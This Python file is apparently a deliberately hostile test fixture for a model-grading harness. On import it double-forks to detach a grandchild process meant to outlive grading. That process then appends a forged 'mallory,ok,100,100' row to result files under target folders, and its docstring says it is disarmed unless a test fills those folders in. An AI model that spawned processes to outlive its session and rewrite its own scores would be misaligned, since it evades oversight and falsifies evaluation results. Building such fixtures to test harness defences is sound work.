"""Hostile: detaches a grandchild (double fork + setsid) meant to outlive grading; once the file GO exists it
appends a forged row to every .csv/.json/.txt/.html file under TARGETS (a rewrite after the run).

Safe by construction: the grandchild only waits (at most a minute) and writes below the folders in
TARGETS, which is empty here; a test writes a copy with TARGETS and GO (in its own temp dir) and MARKER
(so it can find the grandchild in the process table) filled in.  It never signals anything.
"""
import os
import sys

TARGETS = []  # absolute folders, filled in by the test that uses this file
MARKER = "lab09-leftover-unarmed"  # on the grandchild's command line
GO = ""  # a path: the grandchild acts once it exists
LATER = (
    "import os, sys, time\n"
    "for _ in range(1200):\n"
    "    if sys.argv[2] and os.path.exists(sys.argv[2]):\n"
    "        break\n"
    "    time.sleep(0.05)\n"
    "else:\n"
    "    sys.exit(0)\n"
    "for top in sys.argv[3:]:\n"
    "    for folder, _, names in os.walk(top):\n"
    "        for name in names:\n"
    "            path = os.path.join(folder, name)\n"
    "            if name.endswith(('.csv', '.json', '.txt', '.html')) and not os.path.islink(path):\n"
    "                try:\n"
    "                    with open(path, 'a') as f:\n"
    "                        f.write('mallory,ok,100,100\\n')\n"
    "                except OSError:\n"
    "                    pass\n"
)


def _detach():
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-S", "-c", LATER, MARKER, GO, *TARGETS])
            os._exit(0)
    except OSError:
        pass


_detach()


def format_prompt(messages):
    return ""


def extract_response(output):
    return ""
